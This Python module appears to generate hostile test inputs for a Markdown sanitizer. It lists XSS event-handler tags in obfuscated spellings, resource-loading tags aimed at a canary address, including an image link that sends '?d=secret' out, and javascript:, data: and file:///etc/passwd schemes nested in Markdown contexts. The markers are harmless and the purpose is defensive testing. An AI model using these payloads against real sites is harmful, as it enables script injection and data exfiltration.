"""
Texts of a hostile model, made of parts: what runs, what loads and what leads away, in all the places of Markdown.

The kinds are those of sanitizers' fixtures and of lists of attacks; the texts are our own.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice

RUNNING = [
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onend"),
    ("svg><script", "onload"),
    ("svg><foreignObject><body", "onload"),
    ("math><maction actiontype=toggle", "onclick"),
    ("math><mtext><table><mglyph><style><img src=x", "onerror"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("details open", "ontoggle"),
    ("video><source", "onerror"),
    ("video autoplay src=x", "onloadstart"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocusin"),
    ("select autofocus", "onfocus"),
    ("a tabindex=1 id=x", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("div style=animation-name:x", "onanimationstart"),
    ("div style=transition:1s", "ontransitionend"),
    ("div popover id=p", "onbeforetoggle"),
    ("button popovertarget=p", "onclick"),
    ("dialog open", "onclose"),
    ("form", "onformdata"),
    ("x contenteditable", "onblur"),
    ("x draggable=true", "ondragstart"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("script src=x", "onerror"),
    ("meter", "onpointerenter"),
    ("keygen autofocus", "onfocus"),
    ("xss", "onscrollend"),
    ("template shadowrootmode=open><img src=x", "onerror"),
]
WRITINGS = [
    "<{tag} {event}=window.__xss=1>",
    '<{tag} {event}="window.__xss=1"/>',
    "<{upper}/{event}='window.__xss=1'//>",
    "<{tag}\n{event}\t=\nwindow.__xss=1 >",
    "<{tag} {event}=window.__xss=1 <",
    "<{tag} {event}=&#119;indow.__xss&#x3d;1>",
    "<<{tag} {event}=window.__xss=1>>",
    "</p><{tag} {event}=`window.__xss=1`>",
]
LOADING = [
    "<img src={canary}>",
    "<img srcset='{canary} 2x'>",
    "<picture><source srcset={canary}><img></picture>",
    "<image src={canary}>",
    "<svg><image href={canary} /></svg>",
    "<svg><image xlink:href={canary} /></svg>",
    "<svg><use href='{canary}#x'/></svg>",
    "<svg><filter><feImage href={canary} /></filter></svg>",
    "<svg><style>@import '{canary}';</style></svg>",
    "<video src={canary} autoplay></video>",
    "<video poster={canary}></video>",
    "<video><track src={canary} default></video>",
    "<audio src={canary} autoplay></audio>",
    "<embed src={canary}>",
    "<object data={canary}></object>",
    "<applet code={canary}></applet>",
    "<iframe src={canary}></iframe>",
    "<iframe srcdoc='<img src={canary}>'></iframe>",
    "<frameset><frame src={canary}></frameset>",
    "<link rel=stylesheet href={canary}>",
    "<link rel=prefetch href={canary}>",
    "<link rel=preload as=image href={canary}>",
    "<link rel=modulepreload href={canary}>",
    "<link rel=preconnect href={canary}>",
    "<link rel=icon href={canary}>",
    "<link rel=manifest href={canary}>",
    "<meta http-equiv=refresh content='0;url={canary}'>",
    "<meta http-equiv=Link content='<{canary}>; rel=stylesheet'>",
    "<base href={canary}>",
    "<form action={canary}><input autofocus><button id=x></form><script>x.click()</script>",
    "<input type=image src={canary}>",
    "<body background={canary}>",
    "<table background={canary}><td background={canary}>x</table>",
    "<a href=https://example.org ping={canary}>x</a>",
    "<a href={canary} download>x</a>",
    "<style>@import url({canary});</style>",
    "<style>@font-face {{font-family: x; src: url({canary})}} * {{font-family: x}}</style>",
    "<div style='background:url({canary})'>x</div>",
    "<div style='list-style-image:url({canary})'>x</div>",
    "<p style='content:url({canary})'>x</p>",
    "<script src={canary}></script>",
    "<script type=module>import '{canary}'</script>",
    "<script>fetch('{canary}')</script>",
    "<bgsound src={canary}>",
    "<portal src={canary}></portal>",
    "<html manifest={canary}>",
    "<math href={canary}>x</math>",
    "<blockquote cite={canary}>x</blockquote>",
    "![x]({canary}?d=secret)",
    "![x](<{canary}> 'title')",
    "![x][1]\n\n[1]: {canary} 'title'",
    "![1]\n\n[1]: <{canary}>",
    "[![x]({canary})]({canary})",
    "![![x]({canary})]({canary})",
    "![](//{host}/x.png)",
    "![x](http:{canary})",
    "![x](HTTP://{host}/y.png)",
    "![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{canary}'/></svg>)",
]
"""`{canary}` is an address that nobody may ask for anything."""
SCHEMES = [
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1",
    "&#x6A;avascript:window.__xss=1",
    "&#106avascript:window.__xss=1",
    "java&Tab;script:window.__xss=1",
    "java&NewLine;script:window.__xss=1",
    "java&#10;script:window.__xss=1",
    "java&#0;script:window.__xss=1",
    "javascript&colon;window.__xss=1",
    "javascript&#58;window.__xss=1",
    "&#1;javascript:window.__xss=1",
    "&nbsp;javascript:window.__xss=1",
    "java\tscript:window.__xss=1",
    "java\u200bscript:window.__xss=1",
    "\ufeffjavascript:window.__xss=1",
    "\\javascript:window.__xss=1",
    "javascript\\:window.__xss=1",
    "%6Aavascript:window.__xss=1",
    "javascript%3Awindow.__xss=1",
    "javascript://example.org/%0Awindow.__xss=1",
    "\uff4aavascript:window.__xss=1",
    "feed:javascript:window.__xss=1",
    "view-source:javascript:window.__xss=1",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:window.__xss=1",
    "mocha:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=window.__xss=1>",
    "data&colon;text/html,x",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "filesystem:https://example.org/x",
    "about:blank",
    "chrome://settings",
    "ws://example.org",
    "tel:1",
    "ms-word:ofe|u|https://example.org/x",
    "intent://x#Intent;scheme=http;end",
]
"""Addresses that lead to anything but a page of the web, however they are spelled."""
LINKS = ["[press]({0})", "[press](<{0}>)", "<{0}>", "[press][r]\n\n[r]: {0}", "![press]({0})", "[![a]({0})]({0} '{0}')"]
PLACES = [
    "- {0}",
    "> {0}",
    "# {0}",
    "| {0} | b |\n|---|---|\n| a | {0} |",
    "**{0}** _{0}_ ~~{0}~~",
    "[{0}](https://example.org)",
    "[x](https://example.org '{0}')",
    "![{0}](https://example.org/x.png)",
    "`{0}`",
    "```html\n{0}\n```",
    "```{0}\nx\n```",
    "    {0}",
    "1. > - {0}\n\n   {0}",
    "<div>\n\n{0}\n\n</div>",
    "<!-- {0} --> {0}",
    "x\\\n{0}",
    "- [ ] {0}",
    "[^1]\n\n[^1]: {0}",
    "<![CDATA[{0}]]>",
    "<?xml {0}?>",
    "$${0}$$",
    "{0}\n===",
]


def running() -> Iterator[str]:
    """Yield each element that runs something, in each writing."""
    for tag, event in RUNNING:
        yield from (writing.format(tag=tag, event=event, upper=tag.upper()) for writing in WRITINGS)


def leading_away() -> Iterator[str]:
    """Yield each address that is none of the web, in each kind of link."""
    for scheme in SCHEMES:
        yield from (link.format(scheme) for link in LINKS)


def hostile_texts(canary: str) -> list[str]:
    """Return all of them, those that run or load in two places of Markdown each; `canary` is an address to load."""
    host = canary.partition("//")[2]
    loading = [text.format(canary=f"{canary}/{number}", host=host) for number, text in enumerate(LOADING)]
    places = cycle(PLACES)
    parts = [*running(), *loading]
    placed = [place.format(part) for part in parts for place in islice(places, 2)]
    return list(dict.fromkeys([*parts, *placed, *leading_away()]))
